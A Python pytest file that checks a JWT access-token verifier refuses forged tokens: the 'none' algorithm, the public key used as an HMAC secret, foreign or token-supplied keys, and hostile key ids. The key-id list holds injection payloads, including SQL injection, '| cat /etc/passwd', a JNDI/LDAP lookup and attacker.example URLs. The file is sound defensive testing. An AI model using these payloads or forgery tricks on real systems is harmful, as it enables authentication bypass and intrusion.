"""Forged access tokens: other algorithms, other keys, and key ids that point elsewhere."""

import hmac
import json
from collections.abc import Mapping
from typing import Any

import jwt
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.asymmetric.rsa import generate_private_key
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from cartload_kit.errors import Unauthorized
from cartload_kit.tokens import TokenVerifier
from support.forged_tokens import CLAIMS, HEADER, KEY, USER, Issuer, compact, encode, jwk, signed, verifier_of

ATTACKER = Ed25519PrivateKey.from_private_bytes(b"2" * 32)
PUBLIC = KEY.public_key()


def hmac_signed(secret: bytes, header: Mapping[str, Any]) -> str:
    text = f"{compact(header)}.{compact(CLAIMS)}"
    return f"{text}.{encode(hmac.digest(secret, text.encode(), 'sha256'))}"


@pytest.fixture
def issuer() -> Issuer:
    return Issuer()


@pytest.fixture
def verifier(issuer: Issuer) -> TokenVerifier:
    return verifier_of(issuer)


async def test_the_token_that_all_attacks_begin_with_is_good(verifier: TokenVerifier) -> None:
    assert (await verifier.verify(signed())).user_id == USER


NONE: tuple[object, ...] = (
    "none",
    "None",
    "NONE",
    "nOnE",
    "",
    None,
    [],
    {},
    0,
    True,
    ["EdDSA"],
    "none\x00",
    " none",
)


@pytest.mark.parametrize("algorithm", NONE, ids=repr)
@pytest.mark.parametrize("signature", [b"", b"x", b"s" * 64], ids=len)
async def test_a_token_of_no_algorithm_is_refused(
    verifier: TokenVerifier, algorithm: object, signature: bytes
) -> None:
    header = compact({**HEADER, "alg": algorithm})
    with pytest.raises(Unauthorized):
        await verifier.verify(f"{header}.{compact(CLAIMS)}.{encode(signature)}")


SECRETS: dict[str, bytes] = {
    "raw": PUBLIC.public_bytes_raw(),
    "PEM": PUBLIC.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
    "PEM without the last line's end": PUBLIC.public_bytes(
        Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
    ).rstrip(),
    "DER": PUBLIC.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
    "OpenSSH": PUBLIC.public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH),
    "x of the JWK": jwk(KEY)["x"].encode(),
    "JWK": json.dumps(jwk(KEY)).encode(),
    "kid": b"k1",
    "empty": b"",
}


@pytest.mark.parametrize("form", SECRETS)
@pytest.mark.parametrize("algorithm", ["HS256", "EdDSA"])
async def test_the_public_key_is_no_shared_secret(verifier: TokenVerifier, form: str, algorithm: str) -> None:
    with pytest.raises(Unauthorized):
        await verifier.verify(hmac_signed(SECRETS[form], {**HEADER, "alg": algorithm}))


@pytest.mark.parametrize(
    "algorithm", ["HS512", "RS256", "PS256", "ES256", "Ed448", "EdDSA ", "eddsa", "EDDSA", "XXX"]
)
async def test_a_good_signature_under_another_algorithms_name_is_refused(
    verifier: TokenVerifier, algorithm: str
) -> None:
    with pytest.raises(Unauthorized):
        await verifier.verify(signed({**HEADER, "alg": algorithm}))


async def test_a_token_signed_with_a_key_of_another_kind_is_refused(verifier: TokenVerifier) -> None:
    with pytest.raises(Unauthorized):
        await verifier.verify(
            jwt.encode(CLAIMS, generate_private_key(65537, 2048), algorithm="RS256", headers={"kid": "k1"})
        )


KEY_IDS: tuple[object, ...] = (
    "../../../../dev/null",
    "/dev/null",
    "file:///dev/null",
    "http://attacker.example/keys.json",
    "k1' OR '1'='1",
    "x' UNION SELECT 'secret' -- ",
    "| cat /etc/passwd",
    "${jndi:ldap://attacker.example/a}",
    "k1\x00",
    "\x00",
    "k1\n",
    " k1",
    "K1",
    "k1/",
    "__proto__",
    "",
    "k" * 6000,
    "\u202ek1",
    None,
    1,
    True,
    ["k1"],
    {"kid": "k1"},
)


@pytest.mark.parametrize("key_id", KEY_IDS, ids=lambda key_id: repr(key_id)[:40])
async def test_a_key_id_is_looked_up_and_nothing_else(
    verifier: TokenVerifier, issuer: Issuer, key_id: object
) -> None:
    # Signed with our own key: whoever looks for the key anywhere but among the published ones is caught,
    # and so is whoever tries them all.
    for token in (
        signed({**HEADER, "kid": key_id}),
        signed({**HEADER, "kid": key_id}, ATTACKER),
        hmac_signed(b"", {**HEADER, "kid": key_id, "alg": "HS256"}),
        hmac_signed(b"\x00", {**HEADER, "kid": key_id, "alg": "HS256"}),
    ):
        with pytest.raises(Unauthorized):
            await verifier.verify(token)
    assert issuer.reads <= 1


async def test_a_header_without_a_key_id_is_refused(verifier: TokenVerifier) -> None:
    with pytest.raises(Unauthorized):
        await verifier.verify(signed({"alg": "EdDSA"}))


async def test_a_flood_of_unknown_key_ids_asks_the_issuer_once(
    verifier: TokenVerifier, issuer: Issuer
) -> None:
    for number in range(500):
        with pytest.raises(Unauthorized):
            await verifier.verify(signed({**HEADER, "kid": f"unknown-{number}"}, ATTACKER))
    assert issuer.reads == 1
    assert (await verifier.verify(signed())).user_id == USER


@pytest.mark.parametrize(
    "brought",
    [
        {"jwk": jwk(ATTACKER)},
        {"jku": "http://attacker.example/keys.json"},
        {"x5u": "http://attacker.example/certificate.pem"},
        {"x5c": [encode(ATTACKER.public_key().public_bytes_raw())]},
        {"jwk": jwk(ATTACKER), "jku": "http://attacker.example/keys.json"},
    ],
    ids=lambda brought: "+".join(brought),
)
@pytest.mark.parametrize("key_id", ["k1", "of-the-attacker"])
async def test_no_key_that_a_token_brings_or_points_to_is_used(
    verifier: TokenVerifier, issuer: Issuer, brought: dict[str, Any], key_id: str
) -> None:
    with pytest.raises(Unauthorized):
        await verifier.verify(signed({**HEADER, **brought, "kid": key_id}, ATTACKER))
    assert issuer.reads == 1


@pytest.mark.parametrize(
    "changes", [{"iss": "cartload-staging"}, {"aud": "cartload-staging"}, {"iss": "", "aud": ""}]
)
async def test_a_token_of_another_environment_with_the_same_key_is_refused(
    verifier: TokenVerifier, changes: dict[str, str]
) -> None:
    with pytest.raises(Unauthorized):
        await verifier.verify(signed(claims=compact({**CLAIMS, **changes})))


async def test_a_token_of_another_environment_with_the_same_key_id_is_refused(
    verifier: TokenVerifier,
) -> None:
    with pytest.raises(Unauthorized):
        await verifier.verify(signed(key=ATTACKER))
